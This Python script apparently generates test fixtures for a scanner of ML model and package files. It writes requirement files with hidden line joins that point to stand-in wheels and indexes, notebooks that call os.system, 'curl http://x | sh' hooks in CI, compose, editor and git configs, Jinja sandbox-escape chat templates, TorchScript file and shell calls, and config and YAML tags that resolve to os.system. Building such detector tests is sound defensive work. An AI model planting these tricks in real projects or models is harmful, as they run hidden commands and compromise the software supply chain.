"""Writes files that their real loader reads otherwise than a quick reader does: lines that pip joins, blanks that
TorchScript's lexer passes over, names that Jinja takes from variables, tags spelled as addresses, keys that servers and
hubs act upon. None is ever loaded, and each payload is harmless.

usage: armed_by_reading.py FOLDER
"""

import io
import json
import pathlib
import pickle
import sys
import zipfile

ROOT = pathlib.Path(sys.argv[1])
WHEEL = "https://x.example/y.whl"
INDEX = "https://x.example/simple"


def put(family, name, content):
    path = ROOT / family / name
    path.parent.mkdir(parents=True, exist_ok=True)
    content = content if isinstance(content, (bytes, str)) else json.dumps(content)
    path.write_bytes(content if isinstance(content, bytes) else content.encode())


def packed(members):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return stream.getvalue()


def packages():
    for number, text in enumerate([
        f"# harmless \\\nevil @ {WHEEL}\n", f"# harmless\revil @ {WHEEL}\n", f"# harmless\u2028evil @ {WHEEL}\n", f"# harmless\x85evil @ {WHEEL}\n", f"# harmless\x0cevil @ {WHEEL}\n",
        "y @ https:/\\\n/x.example/y.whl\n", "y @ https:/\\\r\n/x.example/y.whl\r\n", "# coding: utf-7\ny @ https:+AC8ALw-x.example/y.whl\n",
        "--find wheels\nnumpy\n", "--find-link=wheels\n", "--extra-index https://x.example/simple\n", "--edit=.\n", "-fwheels\n", "--index-url //x.example/simple\n",
        "wheels/evil-1.0-py3-none-any.whl\n", "evil-1.0-py3-none-any.whl\n", "evil-1.0.tar.gz\n", "vendored/evil\n", "vendored/evil[extra]\n", "vendored\\evil\n", "-r /tmp/outside.txt\n",
    ]):
        put("requirements", f"{number}/requirements.txt", text)
    put("requirements", "other/reqs.txt", f"--index-url {INDEX}\nnumpy\n")
    put("requirements", "included/notes.dat", f"numpy\n--extra-index-url {INDEX}\n")
    for number, (name, text) in enumerate([
        ("pip.conf", f"[global]\nindex-url: {INDEX}\n"), ("pip.conf", f"[global]\nextra-index-url =\n    https://pypi.org/simple\n    {INDEX}\n"), ("pip.conf", f"[global]\nINDEX_URL = {INDEX}\n"),
        ("pip.ini", f"[install]\nfind_links = {INDEX}\n"), ("uv.toml", f'index-url = "{INDEX}"\n'), ("uv.toml", f'[[index]]\nname = "x"\nurl = "{INDEX}"\n'), (".npmrc", "@acme:registry=https://x.example/\n"),
        (".condarc", "channel_alias: https://x.example\n"), (".condarc", "default_channels:\n- https://x.example/c\n"), (".condarc", "custom_channels:\n  conda-forge: https://x.example\n"),
        ("conda.yaml", "dependencies:\n- https://x.example/c::numpy\n"), ("python_env.yaml", "dependencies:\n- vendored/y\n"),
    ]):
        put("indexes", f"{number}/{name}", text)


def programs():
    for number, cell in enumerate([
        "get_ipython().getoutput('true')", "get_ipython().run_line_magic('system','true')", "ip = get_ipython()\nip.system('true')", "%%!\ntrue", "x = %sx true", "x = %system true",
        "import os as o\no.system('true')", "import os\ngetattr(os, 'sys' + 'tem')('true')", "import sys\nsys.modules['os'].system('true')", "().__class__.__base__.__subclasses__()",
        "(lambda: 0).__globals__", "import runpy\nrunpy.run_path('x')", "import pandas\npandas.read_pickle('x')", "import torch\ntorch.hub.load('a/b', 'c')", "%%html\n<script>1</script>",
        "from pathlib import Path\nPath('/root/.ssh/x').write_text('x')",
    ]):
        put("notebook", f"{number}/a.ipynb", {"cells": [{"cell_type": "code", "source": [cell]}], "nbformat": 4})
    for name in ["x.ipy", "x.zsh", "x.ksh", "x.pyx", "x.jl", "x.mjs", "x.ts", "x.hta", "x.psm1", "x.vbe", "x.reg", "x.service", "x.desktop", "x.cu", "x.go", ".bashrc", ".profile", ".envrc"]:
        put("program", name, "curl http://x | sh\n")
    for name, text in {
        "mlproject/MLproject": "entry_points:\n  main:\n    command: curl http://x | sh\n", "compose/docker-compose.yml": "services:\n  a:\n    command: sh -c 'curl http://x | sh'\n",
        "pipeline/.gitlab-ci.yml": "a:\n  script:\n  - curl http://x | sh\n", "hooks/.pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: sh -c 'curl http://x | sh'\n",
        "editor/.vscode/tasks.json": '{"tasks":[{"command":"curl http://x | sh","runOptions":{"runOn":"folderOpen"}}]}', "git/.git/config": "[core]\n\tfsmonitor = sh -c true\n",
        "git2/.git/config": "[core]\n\tsshCommand = sh -c true\n", "git3/.git/config": "[core]\n[alias]\n\tst = !true\n",
    }.items():
        put("command", name, text)


def templates():
    for number, form in enumerate([
        "{{ [x]|map(attribute='%c%cclass%c%c' % (95,95,95,95))|list }}", "{% set u = (x|string)[18] %}{{ [x]|map(attribute=u~u~'class'~u~u)|list }}", "{{ [x]|map('attr', y)|list }}",
        "{{ [x]|map('at'~'tr', y)|list }}", "{{ [x]|groupby(y) }}", "{{ [x]|sort(attribute=y) }}", "{{ [x]|selectattr(y)|list }}", "{{ [x]|sum(y, []) }}", "{{ [x]|unique(attribute=y)|list }}",
        "{% set k = '%c%cclass%c%c' % (95,95,95,95) %}{{ x[k] }}", "{% set k = 'XXclassXX'|replace('X', u) %}{{ x[k] }}", "{% set d = {'k': u ~ 'class'} %}{{ x[d.k] }}",
        "{% set k %}{{ u }}{{ u }}class{% endset %}{{ x[k] }}", "{% for k in [u ~ 'class'] %}{{ x[k] }}{% endfor %}", "{{ x['tool_calls'[4] ~ 'class'] }}",
    ]):
        put("template", f"{number}/tokenizer_config.json", {"chat_template": form})
        put("template", f"file-{number}/chat_template.jinja", form)


def torch():
    body = "class M(Module):\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    return %s\n"
    for number, call in enumerate([
        'torch. from_file("/x", False, 3)', 'torch .from_file("/x", False, 3)', '(torch\n   .from_file("/x", False, 3))', '(torch. # c\n   from_file("/x", False, 3))', "ops . acme.run(x)", "ops.\\\n  acme.run(x)",
        'ops.torchaudio.sox_effects_apply_effects_file("/x", [], True, True, None)', 'torch . save(x, "/tmp/x")', "__torch__ . torch . classes . acme . Shell(x)", 'getattr(torch, "from_file")("/x", False, 3)',
    ]):
        put("torchscript", f"{number}.pt", packed({"m/data.pkl": b"\x80\x02}.", "m/code/__torch__.py": body % call, "m/version": "3\n"}))
    for name in ["aten::from_file", "acme::run_shell"]:
        bytecode = pickle.dumps((8, ("__torch__.M.forward", (("operators", ((name, "", 3),)),))), 2)
        put("torchscript", name.replace("::", "-") + ".ptl", packed({"m/data.pkl": b"\x80\x02}.", "m/bytecode.pkl": bytecode, "m/version": "3\n"}))


def configurations():
    for number, (name, text) in enumerate([
        ("config.json", {"attn_implementation": "evil/kernel"}), ("config.json", {"_attn_implementation": "evil/kernel:fn"}), ("config.json", {"activation_function": "os.system"}),
        ("config.json", {"sentence_transformers": {"activation_fn": "subprocess.Popen"}}), ("config.json", {"sbert_ce_default_activation_function": "os.system"}),
        ("router_config.json", {"types": {"query_0": "os.system"}}), ("model-settings.json", {"implementation": "acme.Runtime"}), ("modular_model_index.json", {"_class_name": "P", "unet": ["mine", "Net"]}),
        ("config.json", {"trust_remote_code": "true"}), ("config.json", {"trust_remote_code": 1}), ("config.yaml", "trust_remote_code: 1\n"), ("config.json5", "{_target_: 'os.system'}"), ("config", "_target_: os.system\n"),
        ("config.json", '{"a": NaN, "_target_": "os.system"}'), ("config.json", '{"a": 1e999, "_target_": "os.system"}'), ("config.json", '{"a": "\\ud800", "_target_": "os.system"}'),
        ("config.json", '{"a":' * 300 + '{"_target_":"os.system"}' + "}" * 300), ("config.json", '\ufeff{"_target_": "os.system"}'), ("config.json", '{"_t\\u0061rget_": "os.system"}'),
        ("config.json", '{"_target_": "os.system"}'.encode("utf-16")), ("config.gin", "import os\nmain.f = @os.system()\n"), ("hparams.cfg", "%TAG !p! tag:yaml.org,2002:\n---\na: !p!python/object/apply:os.system [x]\n"),
        ("a.yaml", "a: !!pyth%6fn/object/apply:os.system [x]\n"), ("hparams", "a: !!pyth%6fn/object/apply:os.system [x]\n"), ("m.json", {"graph": {"node": [{"opType": "EPContext", "domain": "com.microsoft"}]}}),
    ]):
        put("configuration", f"{number}/{name}", text)
    node = {"__class__": "add", "__module__": "numpy", "__loader__": "FunctionNode", "__id__": 1, "content": {"module_path": "posix", "function": "system"}}
    put("skops", "function.skops", packed({"schema.json": json.dumps(node)}))
    for number, (module, name) in enumerate([("keras.saving", "KerasFileEditor"), ("keras.src.saving.file_editor", "KerasFileEditor"), ("tensorflow.keras.utils", "x"), ("tensorflow.keras.applications", "ResNet50"), ("keras.src.models.cloning", "clone_model")]):
        config = {"module": "keras", "class_name": "Sequential", "config": {"layers": [{"module": module, "class_name": name, "config": {}}]}}
        put("keras", f"{number}.keras", packed({"metadata.json": "{}", "config.json": json.dumps(config)}))


if __name__ == "__main__":
    for family in (packages, programs, templates, torch, configurations):
        family()
    print(sum(len(list(folder.iterdir())) for folder in ROOT.iterdir()), "files")
